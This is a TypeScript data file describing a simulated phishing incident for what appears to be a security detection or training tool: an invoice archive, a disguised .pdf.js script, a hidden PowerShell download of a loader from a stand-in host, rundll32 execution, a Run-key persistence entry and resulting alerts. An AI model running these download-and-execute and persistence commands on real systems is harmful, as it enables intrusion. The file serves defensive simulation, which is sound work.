import type { Pack } from './model.ts';
import { alert, asked, connected, host, ran, setValue, sha256Of, wrote } from './write.ts';

/** An invoice that is a script: mail, archive, script host, loader, stopped when it wants to stay. */
const USER = 'AOZORA\\h.suzuki';
const DOWNLOADS = 'C:\\Users\\h.suzuki\\Downloads';
const LOADER = 'C:\\Users\\h.suzuki\\AppData\\Roaming\\OfficeCache\\ocsvc.dll';
const LOADER_SHA256 = sha256Of('ocsvc.dll');

export const phishing: Pack = {
  name: 'phishing',
  title: { en: 'An invoice by mail that is a script', ja: '請求書を装ったメールのスクリプト' },
  hosts: [
    host({
      key: 'pc',
      name: 'EIGYO-NB-207',
      address: '192.0.2.71',
      group: '営業部ノートPC',
      policy: '標準(検知・防御)',
      user: 'h.suzuki',
    }),
  ],
  processes: [
    ran({
      key: 'outlook',
      host: 'pc',
      parent: null,
      at: -5400,
      pid: 4120,
      image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE',
      commandLine: '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"',
      user: USER,
      signer: 'Microsoft Corporation',
    }),
    ran({
      key: 'archive',
      host: 'pc',
      parent: 'outlook',
      at: -64,
      endsAt: 40,
      pid: 8844,
      image: 'C:\\Program Files\\Archive Viewer\\aview.exe',
      commandLine: `"C:\\Program Files\\Archive Viewer\\aview.exe" "${DOWNLOADS}\\請求書_20261120.zip"`,
      user: USER,
    }),
    ran({
      key: 'wscript',
      host: 'pc',
      parent: 'archive',
      at: -31,
      endsAt: 6,
      pid: 8912,
      image: 'C:\\Windows\\System32\\wscript.exe',
      commandLine: `"C:\\Windows\\System32\\WScript.exe" "${DOWNLOADS}\\請求書_20261120\\請求書_20261120.pdf.js"`,
      user: USER,
    }),
    ran({
      key: 'powershell',
      host: 'pc',
      parent: 'wscript',
      at: -12,
      endsAt: 5,
      pid: 8990,
      image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      commandLine:
        'powershell.exe -nop -w hidden -c "iwr https://docs.invoice-share.example/a/7f -OutFile $env:APPDATA\\OfficeCache\\ocsvc.dll"',
      user: USER,
    }),
    ran({
      key: 'rundll',
      host: 'pc',
      parent: 'wscript',
      at: 2,
      endsAt: 6,
      pid: 9020,
      image: 'C:\\Windows\\System32\\rundll32.exe',
      commandLine: `rundll32.exe ${LOADER},Start`,
      user: USER,
    }),
  ],
  acts: [
    wrote(-62, 'outlook', `${DOWNLOADS}\\請求書_20261120.zip`, sha256Of('invoice.zip')),
    wrote(-33, 'archive', `${DOWNLOADS}\\請求書_20261120\\請求書_20261120.pdf.js`, sha256Of('invoice.js')),
    {
      kind: 'script',
      at: -30,
      process: 'wscript',
      language: 'javascript',
      content: 'var s=new ActiveXObject("WScript.Shell");s.Run("powershell.exe -nop -w hidden -c …",0);',
    },
    asked(-11, 'powershell', 'docs.invoice-share.example', '203.0.113.140', '203.0.113.141'),
    connected(-10.5, 'powershell', '203.0.113.140:443', 'docs.invoice-share.example'),
    wrote(-8, 'powershell', LOADER, LOADER_SHA256),
    { kind: 'module', at: 2.1, process: 'rundll', path: LOADER, sha256: LOADER_SHA256, signer: null },
    setValue(4, 'rundll', [
      'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
      'OfficeCache',
      `rundll32.exe ${LOADER},Start`,
    ]),
    asked(4.5, 'rundll', 'status.invoice-share.example', '203.0.113.142'),
  ],
  logons: [{ at: -28_000, host: 'pc', user: USER, type: 2, from: null, outcome: 'success' }],
  alerts: [
    alert({
      key: 'script-download',
      at: 0,
      process: 'powershell',
      title: 'A script host started a hidden download',
      description: 'A script opened from an archive started PowerShell, which fetched a library.',
      tactic: 'TA0002 Execution',
      technique: 'T1059.001 PowerShell',
      severity: 'medium',
    }),
    alert({
      key: 'loader',
      at: 5,
      process: 'rundll',
      title: 'Malicious library stopped',
      description: 'A library rated malicious by machine learning was loaded and registered to start with the user.',
      tactic: 'TA0005 Defense Evasion',
      technique: 'T1218.011 Rundll32',
      kind: 'machine-learning',
      disposition: 'blocked',
      severity: 'high',
    }),
  ],
  vulnerabilities: [],
};
